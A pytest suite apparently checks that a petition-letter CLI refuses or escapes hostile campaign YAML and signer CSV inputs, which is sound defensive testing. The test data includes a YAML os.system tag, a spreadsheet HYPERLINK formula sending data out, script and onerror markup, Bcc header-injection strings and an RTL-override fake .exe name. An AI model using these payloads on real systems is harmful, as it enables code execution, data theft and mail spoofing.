"""Hostile campaign files and signer lists (items 17-32): YAML surprises, huge fields,
formulas, markup and header injection, direction overrides."""


from __future__ import annotations

import re
from io import BytesIO

import pypdf
import pytest
from catalogue import (
    LETTER,
    ME,
    Cli,
    signers,
)

from helpers import write

# --------------------------------------------------------------------------- 17-23 variants


def test_tag_never_runs(cli: Cli) -> None:
    campaign = cli.root / "pack" / "campaign.yaml"
    campaign.write_text(f'x: !!python/object/apply:os.system ["touch {cli.root}/pwned"]\n',
                        encoding="utf-8")
    cli.refused("validate", "pack/campaign.yaml",
                expect=re.compile(r"pack/campaign\.yaml:1:4: tag not allowed"))
    assert not (cli.root / "pwned").exists()


def test_yaml11_surprises_stay_text(cli: Cli) -> None:
    campaign = cli.root / "pack" / "campaign.yaml"
    text = campaign.read_text(encoding="utf-8")
    text = text.replace('en: "Kassym-Jomart Tokayev"', "en: NO", 1)
    text = text.replace('en: "Dear President Tokayev,"', "en: 12:30", 1)
    text = text.replace('figure: "164"', "figure: 01234", 1)
    campaign.write_text(text, encoding="utf-8")
    result = cli.invoke(*LETTER, "-f", "md")
    assert result.exit_code == 0, result.stderr
    assert "\nNO\\\n" in result.stdout and "\n12:30\n" in result.stdout
    brief = cli.invoke("brief", "pack/campaign.yaml", "--lang", "en", "-f", "md")
    assert brief.exit_code == 0, brief.stderr
    assert "01234" in brief.stdout


def test_every_problem_of_a_campaign_in_one_pass(cli: Cli) -> None:
    campaign = cli.root / "pack" / "campaign.yaml"
    text = campaign.read_text(encoding="utf-8").replace("as_of: 2022-01-17", "as_of: 2022-02-30")
    campaign.write_text(text.replace("language: en\n", "language: en\ntittle: x\n", 1),
                        encoding="utf-8")
    errors = cli.refused("validate", "pack/campaign.yaml",
                         expect="advocate: error: pack/campaign.yaml:13:1: unknown key 'tittle' "
                         "(did you mean 'title'?)")
    assert "advocate: error: pack/campaign.yaml:19:8: as_of: invalid date '2022-02-30' (no such " \
        "day)" in errors


# --------------------------------------------------------------------------- 24-32 variants


def test_bom_is_not_part_of_the_header(cli: Cli) -> None:
    signers(cli.root, "bom.csv")
    result = cli.invoke(*LETTER, "--signers", "signers.csv")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.startswith("Aigerim Sadykova\n")


def test_huge_field(cli: Cli) -> None:
    rows = "".join(f"Signer {i},s{i}@example.org,ok\n" for i in range(1, 8))
    write(cli.root / "signers.csv", "name,email,note\n" + rows + "Big,b@example.org,"
          + "x" * 200_000 + "\n")
    cli.refused("petition", "pack/campaign.yaml", "--signers", "signers.csv",
                expect="advocate: error: signers.csv:9: field too large (a field may hold at most "
                "10,000 characters)", private=("Signer 1", "s1@example.org"))


def test_formula_is_shown_literally(cli: Cli) -> None:
    signers(cli.root, "formula.csv")
    text = cli.invoke(*LETTER, "--signers", "signers.csv")
    assert text.exit_code == 0, text.stderr
    assert '=HYPERLINK("http://x/?"&B2,"click")\n' in text.stdout
    assert "\n+447700900123\n" in text.stdout
    html = cli.invoke(*LETTER, "--signers", "signers.csv", "-f", "html")
    assert "=HYPERLINK(&quot;http://x/?&quot;&amp;B2,&quot;click&quot;)" in html.stdout
    pdf = cli.invoke(*LETTER, "--signers", "signers.csv", "-f", "pdf", "-o", "out/l.pdf")
    assert pdf.exit_code == 0, pdf.stderr
    reader = pypdf.PdfReader(BytesIO((cli.root / "out" / "l.pdf").read_bytes()))
    assert '=HYPERLINK("http://x/?"&B2,"click")' in reader.pages[0].extract_text()


def test_html_in_a_name_is_text(cli: Cli) -> None:
    signers(cli.root, "html.csv")
    html = cli.invoke(*LETTER, "--signers", "signers.csv", "-f", "html")
    assert html.exit_code == 0, html.stderr
    assert "&lt;img src=http://x/ onerror=alert(1)&gt;" in html.stdout
    assert "<img src=http://x/" not in html.stdout
    pdf = cli.invoke(*LETTER, "--signers", "signers.csv", "-f", "pdf", "-o", "out/l.pdf")
    assert pdf.exit_code == 0, pdf.stderr  # no fetch: sockets are disabled in this suite
    text = pypdf.PdfReader(BytesIO((cli.root / "out" / "l.pdf").read_bytes())).pages[0]
    assert "<img src=http://x/ onerror=alert(1)>" in text.extract_text()


def test_signer_note_cannot_forge_letter_blocks_or_markup(cli: Cli) -> None:
    note = "::: recipient\nEvil Corp\n:::\n<script>alert(1)</script>\n[x](javascript:alert(1))"
    write(cli.root / "signers.csv", f'name,note\nAna Lima,"{note}"\n')
    html = cli.invoke(*LETTER, "--signers", "signers.csv", "-f", "html")
    assert html.exit_code == 0, html.stderr
    assert html.stdout.count('<div class="recipient">') == 1
    assert "<script>" not in html.stdout and 'href="javascript' not in html.stdout
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html.stdout
    text = cli.invoke(*LETTER, "--signers", "signers.csv")
    assert "::: recipient Evil Corp ::: <script>alert(1)</script>" in text.stdout


@pytest.mark.parametrize(("cell", "what"), [
    ('"Ana\r\nBcc: spy@evil.example"', "'name' contains a line break or control character"),
    ('"Ana\u2028Bcc: spy@evil.example"', "'name' contains a line break or control character"),
    ('"Ana\x1b[31m"', "'name' contains a line break or control character"),
])
def test_header_injection_through_a_signer_name(cli: Cli, cell: str, what: str) -> None:
    write(cli.root / "signers.csv", f"name,email\n{cell},ana@example.org\n")
    cli.refused(*LETTER, "--signers", "signers.csv", "-f", "eml", "-o", "out/l.eml",
                expect=f"advocate: error: signers.csv:2: row 1: {what}",
                private=("Ana", "ana@example.org", "spy@evil"))


def test_header_injection_through_the_campaign_title_is_refused_with_its_place(cli: Cli) -> None:
    """A pack's title with CR/LF would end the Subject line: refused where it is written."""
    campaign = cli.root / "pack" / "campaign.yaml"
    text = campaign.read_text(encoding="utf-8").replace(
        "en: \"Justice for Kazakhstan's peaceful protesters\"",
        'en: "Justice\\r\\nBcc: spy@evil.example"', 1)
    campaign.write_text(text, encoding="utf-8")
    cli.refused(*LETTER, *ME, "-f", "eml", "-o", "out/l.eml",
                expect=re.compile(r"^advocate: error: pack/campaign\.yaml:5:\d+: .*line break"))
    cli.refused("validate", "pack/campaign.yaml",
                expect=re.compile(r"^advocate: error: pack/campaign\.yaml:5:\d+: .*line break"))


def test_rtl_override_in_a_name_never_reaches_a_file_name(cli: Cli) -> None:
    write(cli.root / "signers.csv", "name,email\nx\u202egpj.exe,rtl@example.org\n")
    result = cli.invoke("build", "pack/campaign.yaml", "--signers", "signers.csv", "-o", "out",
                        "--formats", "txt,eml", "--jobs", "1")
    assert result.exit_code == 0, result.stderr
    names = [p.name for p in (cli.root / "out").rglob("*")]
    assert all(name.isascii() and name.isprintable() for name in names), names
    assert not any("gpj" in name for name in names)
    eml = (cli.root / "out/kazakhstan-2022/letters/00001-un-high-commissioner.eml").read_bytes()
    assert b"\r\n\r\n" in eml and b"\xe2\x80\xae" not in eml.split(b"\r\n\r\n")[0]


def test_unsupported_script_in_a_name_is_refused_without_quoting_it(cli: Cli) -> None:
    """The bundled fonts lack Khmer and Tibetan: say which row and script, never which
    characters (they are the name)."""
    write(cli.root / "signers.csv", "name,email,note\nសុខ,sok@example.org,\n"
          "Ana,ana@example.org,བོད་\n")
    for args in ((*LETTER, "--signers", "signers.csv", "-f", "pdf", "-o", "out/l.pdf"),
                 ("build", "pack/campaign.yaml", "--signers", "signers.csv", "-o", "out",
                  "--jobs", "1")):
        errors = cli.refused(*args, expect=re.compile(r"^advocate: error: signers\.csv(:\d+)?: "
                                                      r"row 1: "),
                             private=("ស", "ុ", "ខ", "བ", "ོ", "U+179F", "U+1781"))
        assert not any("campaign.yaml" in line for line in errors)
        assert any("row 1: the name holds Khmer letters" in line for line in errors)
        assert any("row 2: the note holds Tibetan letters" in line for line in errors)


